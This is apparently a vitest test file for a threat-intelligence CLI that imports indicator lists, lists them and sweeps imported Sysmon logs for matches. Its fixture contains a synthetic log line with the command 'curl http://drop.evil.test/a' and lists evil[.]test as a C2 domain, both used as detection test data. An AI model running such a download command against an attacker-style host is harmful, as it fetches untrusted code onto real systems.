import { rmSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { sysmonLine } from '../pipeline/engine.test-support.ts';
import { miharu, newFolder, writtenIn } from './cli.test-support.ts';

const folder = newFolder();
const access = [
  '--workspace',
  path.join(folder, 'ws'),
  '--passphrase-file',
  writtenIn(folder, 'passphrase', 'a passphrase for tests only\n'),
];
const intel = (...args: string[]) => miharu(['intel', ...args, ...access]);

beforeAll(async () => {
  await miharu(['init', ...access]);
  const log = writtenIn(folder, 'log.json', sysmonLine(1, { CommandLine: 'curl http://drop.evil.test/a' }));
  await miharu(['import', log, '--customer', 'C', ...access]);
}, 60_000);
afterAll(() => rmSync(folder, { recursive: true, force: true }));

test('a script takes a list, lists what is known, and sweeps', async () => {
  const file = writtenIn(folder, 'list.csv', 'value,description\nevil[.]test,C2\n198.18.7.7,x\nwhat,ever\n');
  const taken = await intel('import', file, '--json');
  expect(JSON.parse(taken.stdout)).toMatchObject({ imports: [{ indicators: 2, rejected: 1, state: 'complete' }] });
  const listed = await intel('list', '--filter', 'evil');
  expect([listed.status, listed.stdout]).toEqual([0, 'Domain\tevil.test\tactive\tlist.csv\tC2\n']);
  const swept = await intel('sweep', '--json');
  expect(JSON.parse(swept.stdout)).toMatchObject({
    indicators: 2,
    hits: [{ value: 'evil.test', host: 'pc1.example' }],
  });
  const refused = await intel('import', writtenIn(folder, 'broken.json', '{"type": '), '--json');
  expect([refused.status, JSON.parse(refused.stdout)]).toMatchObject([1, { imports: [{ state: 'refused' }] }]);
  expect((await intel('nonsense')).status).toBe(2);
}, 120_000);
